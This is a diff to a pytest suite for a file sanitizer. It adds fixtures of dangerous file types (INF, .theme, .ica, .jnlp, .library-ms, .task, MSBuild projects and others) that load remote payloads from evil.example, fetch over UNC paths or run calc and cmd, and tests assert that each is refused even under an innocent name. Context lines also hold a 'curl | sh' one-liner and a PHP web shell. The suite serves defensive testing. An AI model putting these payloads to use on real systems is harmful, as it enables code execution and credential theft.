@@ -33,6 +33,26 @@ SCRIPTS = {
     "a.sh": "#!/bin/sh\ncurl http://evil.example | sh\n",
     "a.php": "<?php system($_GET['c']); ?>",
     "a.ps": "%!PS-Adobe-3.0\n(%pipe%id) (w) file pop\n",
+    "a.inf": "[version]\nsignature=$chicago$\n[DefaultInstall]\nUnRegisterOCXs=x\n[x]\n%11%\\scrobj.dll,NI,http://evil.example/x\n",
+    "a.theme": "[Theme]\nDisplayName=x\n[boot]\nSCRNSAVE.EXE=\\\\evil.example\\x.scr\n",
+    "a.ica": "[ApplicationServers]\nx=\n[x]\nAddress=evil.example\nInitialProgram=#calc\n",
+    "a.wsh": "[ScriptFile]\nPath=\\\\evil.example\\x.vbs\n",
+    "a.jnlp": '<?xml version="1.0"?><jnlp codebase="http://evil.example/"><resources><jar href="x.jar"/></resources></jnlp>',
+    "a.asx": '<asx version="3.0"><entry><ref href="\\\\evil.example\\x"/></entry></asx>',
+    "a.m3u8": "#EXTM3U\n\\\\evil.example\\x\n",
+    "a.terminal": '<?xml version="1.0"?><plist version="1.0"><dict><key>CommandString</key><string>id</string></dict></plist>',
+    "a.csproj": '<Project Sdk="Microsoft.NET.Sdk"><Target Name="x"><Exec Command="calc"/></Target></Project>',
+    "a.settingcontent-ms": '<?xml version="1.0"?><PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/'
+    'SettingContent"><ApplicationInformation><DeepLink>cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>',
+}
+# Documents that act by their namespace: refused, whatever they are called.
+PROGRAMS = {
+    "a.library-ms": '<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><url>\\\\evil.example\\x</url></libraryDescription>',
+    "a.searchConnector-ms": '<searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/searchConnector"/>',
+    "a.contact": '<c:contact xmlns:c="http://schemas.microsoft.com/Contact"><c:Value>file:///c:/calc.exe</c:Value></c:contact>',
+    "a.application": '<asmv1:assembly xmlns:asmv1="urn:schemas-microsoft-com:asm.v1"><deployment/></asmv1:assembly>',
+    "a.task": '<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Exec><Command>calc</Command></Exec></Task>',
+    "a.vcxproj": '<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><Target><Exec Command="calc"/></Target></Project>',
 }
 INNOCENT = {
     "notes.txt": "Dear Jane,\n\nthe macro calls CreateObject(\"Word\").\nPlease remove it.\n\nYours\nJohn\n",
@@ -80,6 +100,13 @@ def test_a_script_is_refused(tmp_path):
     for name, text in SCRIPTS.items():
         done, clean = sanitized(tmp_path, name, text)
         assert clean is None and done.returncode == 1 and "it is a script" in done.err, name
+
+
+def test_a_document_that_acts_by_its_namespace_is_refused(tmp_path):
+    for name, text in PROGRAMS.items():
+        for called in [name, "photo.jpg", "letter.txt", "data.xml"]:
+            assert sanitized(tmp_path, called, text)[1] is None, (name, called)
+    assert sanitized(tmp_path, "data.xml", "<project><name>a</name></project>")[1] is not None
 
 
 @pytest.mark.parametrize("other", ["photo.jpg", "letter.txt", "table.csv", "page.md", "noending", "x.docx", "a.unheard"])
